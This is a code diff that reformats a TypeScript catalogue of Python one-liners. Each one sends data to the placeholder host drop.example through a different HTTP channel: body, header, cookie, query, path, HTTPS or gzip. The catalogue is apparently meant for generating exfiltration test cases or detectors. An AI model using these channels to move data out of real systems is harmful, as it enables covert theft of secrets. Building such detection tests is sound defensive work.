@@ -62,15 +62,29 @@ export const PYTHON: Language = {
     { name: 'in lines', expression: 'base64.encodebytes(d.encode() * 3).decode()', yields: 'text' },
   ],
   channels: [
-    { name: 'HTTP body', send: 'urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=BYTES, headers={}), timeout=5).read()', carries: 'bytes' },
-    { name: 'HTTP header', send: "urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=b'a=1', headers={'X-Trace': TEXT}), timeout=5).read()" },
-    { name: 'HTTP cookie', send: "urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=b'a=1', headers={'Cookie': 'theme=dark; sid=' + TEXT}), timeout=5).read()" },
+    {
+      name: 'HTTP body',
+      send: "urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=BYTES, headers={}), timeout=5).read()",
+      carries: 'bytes',
+    },
+    {
+      name: 'HTTP header',
+      send: "urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=b'a=1', headers={'X-Trace': TEXT}), timeout=5).read()",
+    },
+    {
+      name: 'HTTP cookie',
+      send: "urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=b'a=1', headers={'Cookie': 'theme=dark; sid=' + TEXT}), timeout=5).read()",
+    },
     { name: 'URL query', send: "urllib.request.urlopen('http://drop.example/p?a=1&q=' + TEXT, timeout=5).read()" },
     {
       name: 'URL path',
       send: "urllib.request.urlopen('http://drop.example/i/' + TEXT + '/pixel.gif', timeout=5).read()",
     },
-    { name: 'HTTPS body', send: "urllib.request.urlopen(urllib.request.Request('https://drop.example/in', data=BYTES, headers={}), timeout=5).read()", carries: 'bytes' },
+    {
+      name: 'HTTPS body',
+      send: "urllib.request.urlopen(urllib.request.Request('https://drop.example/in', data=BYTES, headers={}), timeout=5).read()",
+      carries: 'bytes',
+    },
     {
       name: 'HTTP, gzip content-encoding',
       send: "urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=gzip.compress(BYTES), headers={'Content-Encoding': 'gzip'}), timeout=5).read()",
